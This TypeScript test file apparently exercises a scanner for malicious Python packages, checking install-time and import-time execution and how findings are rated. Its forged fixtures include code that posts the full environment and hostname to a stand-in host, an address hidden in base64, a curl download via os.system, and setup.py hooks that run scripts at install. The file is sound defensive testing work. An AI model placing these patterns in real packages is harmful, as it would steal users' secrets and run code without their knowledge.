/** What runs when, and with which values: programs that commands name, modules that lie oddly, variables that nobody sets. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { examineClosely, type Examination } from '../../src/engine/examine.ts';
import { Budget } from '../../src/kit/budget.ts';
import { forgeSdist, forgeWheel } from '../forge/forge.ts';

const STARTS = 'import subprocess\nsubprocess.run(["echo", "forged"])\n';

test('an installed script is code that runs, and runs on import where the package starts it', () => {
  const idle = wheel({ 'forged/__init__.py': '', 'forged-1.0.data/scripts/forgedtool': `#!python\n${STARTS}` });
  assert.equal(stageOf(idle, 'forgedtool'), 'run');
  const started = wheel({ 'forged/__init__.py': 'import os\nos.system("forgedtool")\n', 'forged-1.0.data/scripts/forgedtool': `#!python\n${STARTS}` });
  assert.equal(stageOf(started, 'forgedtool'), 'import');
});

test('a module renamed for the interpreter without a window runs where it is started', () => {
  const files = { 'forged/__init__.py': 'import os\nos.rename("parts.py", "parts.pyw")\nos.system("pythonw parts.pyw")\n', 'forged/parts.py': STARTS };
  assert.equal(stageOf(wheel(files), 'parts.py'), 'import');
  assert.equal(stageOf(wheel({ ...files, 'forged/__init__.py': 'import os\nos.system("pythonw others.pyw")\n' }), 'parts.py'), 'run');
});

test('of a package that lies nowhere an import would look, the highest modules are taken to be loaded', () => {
  const odd = sdist({ 'forged/parts/__init__py.py': STARTS, 'forged/parts/deep/more.py': STARTS });
  assert.equal(stageOf(odd, '__init__py.py'), 'import');
  assert.equal(stageOf(odd, 'more.py'), 'run');
  assert.equal(stageOf(sdist({ 'forged/__init__.py': '', 'forged/parts/other.py': STARTS }), 'other.py'), 'run');
});

test('what setup.py imports is a module, and its main part does not run with it', () => {
  const started = (imported: string): readonly string[] => {
    const { view } = sdist({ 'setup.py': `from setuptools import setup\n${imported}\nsetup(name="forged")\n`, 'tool.py': `if __name__ == "__main__":\n    ${STARTS.replaceAll('\n', '\n    ').trim()}\n` });
    return view.units.flatMap(({ calls }) => calls).filter(({ does }) => does.includes('process.run')).map(({ stage }) => stage);
  };
  assert.ok(!started('import tool').includes('install'));
  assert.ok(started('import subprocess, sys\nsubprocess.run([sys.executable, "tool.py"])').includes('install'));
});

test('a variable that nobody sets gives the address beside it, and keeps a plain default to itself', () => {
  const fetched = (fallback: string): string | undefined =>
    wheel({ 'forged/__init__.py': `import os, requests\nrequests.get(os.getenv("FORGED_ADDRESS", ${JSON.stringify(fallback)}))\n` }).view.units.flatMap(({ calls }) => calls).find(({ name }) => name === 'requests.get')?.roles.address?.text;
  assert.equal(fetched('https://files.example/part'), 'https://files.example/part');
  assert.equal(fetched('production'), '%FORGED_ADDRESS%');
});

test('quotes around a whole command line are no part of the program', () => {
  const { view } = wheel({ 'forged/__init__.py': `import os\nos.system('"curl -o part.bin https://files.example/part"')\n` });
  assert.ok(view.units.some(({ calls }) => calls.some(({ does, roles }) => does.includes('net.fetch') && roles.address?.text === 'https://files.example/part')));
});

test('one variable of the environment is not the environment', () => {
  const sent = (value: string): readonly (string | undefined)[] =>
    wheel({ 'forged/__init__.py': `import os, requests\nrequests.post("https://files.example/", json={"value": ${value}})\n` }).view.units.flatMap(({ calls }) => calls).find(({ name }) => name === 'requests.post')?.roles.data?.origins.map(({ detail }) => detail) ?? [];
  assert.deepEqual(sent('os.environ.get("MODE")'), ['MODE']);
  assert.deepEqual(sent('{k: v for k, v in os.environ.items()}'), ['os.environ']);
});

test('the environment sent beside the host is what the finding is about', () => {
  const found = (value: string): readonly string[] =>
    wheel({ 'forged/__init__.py': `import os, requests, socket\ndef report():\n    requests.post("https://files.example/", json={"host": socket.gethostname(), "more": ${value}})\n` }).report.findings.filter(({ rule }) => rule === 'machine-data-sent').map(({ severity }) => severity);
  assert.deepEqual(found('dict(os.environ)'), ['critical']);
  assert.deepEqual(found('os.environ.get("MODE")'), ['low']);
});

test('the host told to a peer that a decoder names is no theft; told to an address hidden in the code it is one', () => {
  const severity = (address: string): readonly string[] =>
    wheel({ 'forged/__init__.py': `import base64, requests, socket\ndef report(peer):\n    requests.post(${address}, json={"host": socket.gethostname()})\n` }).report.findings.filter(({ rule }) => rule === 'machine-data-sent').map(({ severity: how }) => how);
  assert.deepEqual(severity('base64.b64decode(peer).decode()'), ['low']);
  assert.deepEqual(severity(`base64.b64decode("${Buffer.from('https://files.example/').toString('base64')}").decode()`), ['high']);
});

test('a script of the package that the installation starts is judged by what it does', () => {
  const rules = (files: Readonly<Record<string, string>>): readonly string[] =>
    sdist({ 'setup.py': 'import subprocess, sys\nsubprocess.check_call([sys.executable, "tools/words.py"])\n', ...files }).report.findings.map(({ rule }) => rule);
  assert.ok(!rules({ 'tools/words.py': 'print("words")\n' }).includes('command-at-install'));
  assert.ok(rules({}).includes('command-at-install'));
  assert.ok(rules({ 'tools/words.py': 'import os\nos.system("calc.exe")\n' }).includes('command-at-install'));
});

function wheel(files: Readonly<Record<string, string>>): Examination {
  return examineClosely({ target: 'forged', name: 'forged-1.0-py3-none-any.whl', bytes: forgeWheel('forged', '1.0', files) }, { budget: new Budget() });
}

function sdist(files: Readonly<Record<string, string>>): Examination {
  return examineClosely({ target: 'forged', name: 'forged-1.0.tar.gz', bytes: forgeSdist('forged', '1.0', files) }, { budget: new Budget() });
}

function stageOf({ view }: Examination, file: string): string | undefined {
  return view.units.find(({ path, layers }) => path.endsWith(file) && layers.length === 0)?.stage;
}
